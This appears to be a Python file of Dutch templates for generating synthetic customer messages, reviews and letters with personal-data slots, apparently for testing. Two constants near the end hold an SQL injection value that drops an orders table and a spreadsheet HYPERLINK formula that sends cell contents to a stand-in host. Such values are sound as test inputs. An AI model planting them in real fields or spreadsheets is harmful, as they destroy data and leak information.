"""What people write to the shop, in informal Dutch: sentences with typed slots, and sentences without any."""

from dataclasses import dataclass
from typing import Final


@dataclass(frozen=True)
class Lines:
    """Templates of one free text; `share` of its texts come from those with personal slots."""

    personal: tuple[str, ...]
    plain: tuple[str, ...]
    share: float


NOTE: Final = Lines(
    personal=(
        "Graag bezorgen bij de buren, {other}, als wij er niet zijn.",
        "Bel even van tevoren: {phone}. Groet {first}",
        "is voor de auto van mijn vader, kenteken {plate}",
        "Factuur graag ook naar {other_email} sturen aub",
        "Hoort bij {order}, mag in één doos 📦",
        "Ander adres dan anders: {address}",
        "t.a.v. {other_full}, achterom a.u.b.",
        "chassisnummer {vin}, kijk even of het past",
    ),
    plain=(
        "Niet voor acht uur 's ochtends bezorgen graag.",
        "mag bij de deur blijven staan",
        "Is een cadeautje 🎁 dus geen prijs erbij!",
        "Ik haal het zelf op bij de balie.",
        "Past dit op een uitvoering met trekhaak? Zo niet: niet opsturen.",
        "spoed!! auto staat op de brug",
        "Tweede keer dat ik deze bestel, prima spul 👍",
    ),
    share=0.55,
)

COMPLAINT_SUBJECT: Final = Lines(
    personal=(
        "Klacht over {order}",
        "pakket {tracking} kwijt",
        "{full} wacht nog steeds",
        "Rekening {invoice} klopt niet",
        "verkeerd onderdeel voor {plate}",
    ),
    plain=(
        "Verkeerde remschijven geleverd",
        "niemand neemt de telefoon op 😡",
        "Doos was opengescheurd",
        "Accu na drie weken al leeg",
        "Ontevreden over de afhandeling",
        "teveel betaald",
    ),
    share=0.45,
)

COMPLAINT_BODY: Final = Lines(
    personal=(
        "Beste mensen, twee weken geleden bestelde ik onder {order} een uitlaat en die is er nog niet. "
        "Bel mij op {phone} of mail {email}. Gr. {full}",
        "Mijn geld staat nog niet terug op {iban}. Ik ben het wachten beu. {initials_last}",
        "Jullie chauffeur gaf de doos aan {other}, maar die woont hier al een jaar niet meer. Ons adres: {address}.",
        "De spiegel zou op {plate} passen (chassis {vin}) en dat is gewoon niet waar.",
        "Op {invoice} staat btw over de bezorging, graag een nieuwe nota naar {other_email}.",
        "ik ben {full}, klantnummer {customer}, en ik wil dat jullie mijn gegevens nu eens goed zetten: {address}",
        "De monteur, ene {other_full}, zei dat de naaf kapot is. Zijn nummer is {other_phone}, vraag het hem zelf 😤",
        "Volgens jullie log kwam de bestelling van {ip}, maar dat ben ik niet! Er is iemand in mijn account geweest.",
        "Geboortedatum {birth} moest ik doorgeven voor de garantie, waarom? Groeten, {first}",
        "Tracking {tracking} staat al dagen stil en {order} is dus zoek. Laat iets horen aan {email}",
    ),
    plain=(
        "Het blik olie lekte door de hele doos heen, alles plakt. Hier wil ik een vergoeding voor zien.",
        "Al vier keer gemaild en nul reactie. Zo ga je toch niet met klanten om?",
        "de remblokken piepen vanaf dag één en volgens de garage ligt dat aan het materiaal",
        "Besteld was zilver, gekregen heb ik zwart. Terugsturen kost mij geld en dat vind ik niet eerlijk.",
        "Koplamp beslaat van binnen na één regenbui 🌧️. Graag een nieuwe.",
        "Op de site stond morgen in huis, het werd een week.",
    ),
    share=0.65,
)

TICKET_SUBJECT: Final = Lines(
    personal=(
        "Vraag over bestelling {order}",
        "retour {order} van {full}",
        "past dit op {plate}?",
        "Adres wijzigen naar {address}",
        "mailadres is nu {other_email}",
    ),
    plain=(
        "Levertijd uitlaat",
        "Hulp bij het kiezen van remblokken",
        "retourneren, hoe werkt dat?",
        "Garantie op startmotor",
        "kan niet inloggen 🤔",
        "Inbouw bij jullie mogelijk?",
    ),
    share=0.4,
)

TICKET_BODY: Final = Lines(
    personal=(
        "Hallo, kunt u voor {plate} nakijken welke waterpomp erop hoort? Antwoord mag naar {email}. Mvg {full}",
        "Met {first} {last}, ik heb een vraag over {order}. Ik ben overdag te bereiken op {phone}.",
        "Mijn man {other} heeft het pakket geweigerd, kan het opnieuw naar {address}?",
        "Chassisnummer is {vin}. Welke dynamo heb ik nodig?",
        "Graag terugstorten op {iban} tnv {initials_last}",
        "ik woon in {city} en zoek een garage in de buurt die dit inbouwt, app maar: {phone}",
        "Kan klantnummer {customer} samengevoegd worden met dat van mijn vrouw {other_full} ({other_email})?",
        "Postcode klopt niet in mijn account, dat moet {postcode} zijn. Verder alles ok 🙂",
        "Wie is {other_full}? Die naam staat op onze pakbon bij {order}.",
    ),
    plain=(
        "Past de kofferbakmat ook in de stationwagen?",
        "Hoe lang zit er garantie op een gereviseerde startmotor, en telt inbouwen door een hobbyist mee?",
        "ik krijg steeds een foutmelding bij het afrekenen, ook met een andere browser",
        "Kunnen jullie de remvloeistof ook in literflessen leveren? Wij zijn een kleine garage.",
        "Moet ik bij het monteren van de schokdempers ook de veren vervangen?",
        "Alles binnen, bedankt voor de snelle hulp! 🚗",
    ),
    share=0.6,
)

AGENT_MESSAGE: Final = Lines(
    personal=(
        "Dag {first}, we hebben {order} opgezocht en het pakket ligt bij het sorteercentrum.",
        "Beste meneer of mevrouw {last}, klopt het kenteken {plate} nog?",
        "Klopt het dat {other_full} de doos heeft aangenomen? De handtekening lijkt erop.",
        "We storten het bedrag vandaag op {iban}.",
        "De nieuwe code is {tracking}, groetjes {other} van de klantenservice",
        "Creditnota bij {invoice} is onderweg naar {email}.",
        "Bellen lukt niet, uw nummer {phone} geeft geen gehoor.",
    ),
    plain=(
        "Bedankt voor uw bericht, wij kijken ernaar en komen er binnen twee werkdagen op terug.",
        "Heeft u een foto van de beschadiging voor ons?",
        "Het onderdeel is weer op voorraad, zullen we het opsturen?",
        "Nee, die past alleen op modellen met stopstart.",
        "Graag eerst de aansluiting vergelijken met het oude onderdeel.",
    ),
    share=0.5,
)

CUSTOMER_MESSAGE: Final = Lines(
    personal=(
        "Dank! mijn nummer is trouwens veranderd: {other_phone}",
        "stuur maar naar {address}, mijn buurman {other} is thuis",
        "chassisnummer is {vin}, kenteken {plate}",
        "Ik heb hem op naam van {other_full} besteld, onder {order} geloof ik 🙈",
        "mail liever naar {other_email}, deze lees ik nooit. groet {first}",
    ),
    plain=(
        "ok dank je",
        "foto zit erbij, hij is dus helemaal krom",
        "Doe maar 👍",
        "Ik heb nog steeds niets gehoord van jullie, hoe zit dat?",
        "Gelukt! De stekker zat er verkeerd om in.",
    ),
    share=0.5,
)

REVIEW: Final = Lines(
    personal=(
        "Supergoed geholpen door {other} aan de telefoon ⭐",
        "Past perfect op mijn {plate}, aanrader! groetjes {first}",
        "bestelling {order} kwam te laat, verder wel netjes",
        "Wie een handleiding wil mag mailen: {email}",
        "Mijn naam is {full} en ik vind dit troep, bel me maar op {phone}",
        "ingebouwd door garage van {other_full}, vakman",
    ),
    plain=(
        "Makkelijk te monteren, scherp geprijsd.",
        "Na een half jaar nog steeds stil. Blij mee.",
        "kleur wijkt iets af van de foto maar prima",
        "Niet gekocht voor de looks, wel voor de prijs 😄",
        "Schroeven ontbraken. Drie sterren.",
        "Precies gelijk aan het origineel, inclusief stekker",
        "Zat binnen een uurtje op zijn plek, ook zonder brug.",
        "roest nu al, jammer",
        "Verpakking stevig, levering vlot.",
    ),
    share=0.3,
)

SOCIAL: Final = Lines(
    personal=(
        "Hoi, ik ben {full} en mijn pakje {tracking} is weg, help?",
        "kunnen jullie mij dm'en? of mail {email}",
        "{other} van jullie balie in {city} is een topper 👏",
        "waar blijft {order}??",
        "Bel {phone} svp, reageren doen jullie toch niet.",
    ),
    plain=(
        "Wanneer komt de winteractie weer?",
        "leuke stand op de beurs! 🔧",
        "Leveren jullie ook in België?",
        "slechtste webshop ooit 😡😡",
        "Mooie korting op ruitenwissers zag ik, geldt die nog?",
    ),
    share=0.55,
)

LETTER: Final = Lines(
    personal=(
        "Geachte {initials_last}, wij zien nog geen betaling voor {invoice}. Wilt u dit binnen veertien dagen voldoen?",
        "Aan {full}, {address}. Voor {order} staat nog een bedrag open.",
        "Beste {first} {last}, na eerdere brieven over {invoice} melden wij de achterstand aan bij het register.",
        "Wij konden het bedrag niet afschrijven van {iban}. Neem contact op, {last}.",
        "Betreft {invoice}: ook op {phone} kregen wij u niet te spreken.",
    ),
    plain=(
        "Er staat nog een rekening open. Heeft u al betaald, dan kunt u deze brief weggooien.",
        "Dit is onze tweede herinnering. Hierna rekenen wij kosten.",
        "Wij dragen de vordering over als wij niets van u horen.",
    ),
    share=0.8,
)

SQL_INJECTION: Final = "{first}'); DROP TABLE orders;--"
FORMULA_INJECTION: Final = '=HYPERLINK("https://klik.example/?d="&A1;"bekijk bestelling")'

BY_COLUMN: Final[dict[tuple[str, str], Lines]] = {
    ("orders", "note"): NOTE,
    ("collection_letter", "body"): LETTER,
    ("complaint", "subject"): COMPLAINT_SUBJECT,
    ("complaint", "body"): COMPLAINT_BODY,
    ("support_ticket", "subject"): TICKET_SUBJECT,
    ("support_ticket", "body"): TICKET_BODY,
    ("review", "body"): REVIEW,
    ("social_contact", "message"): SOCIAL,
}
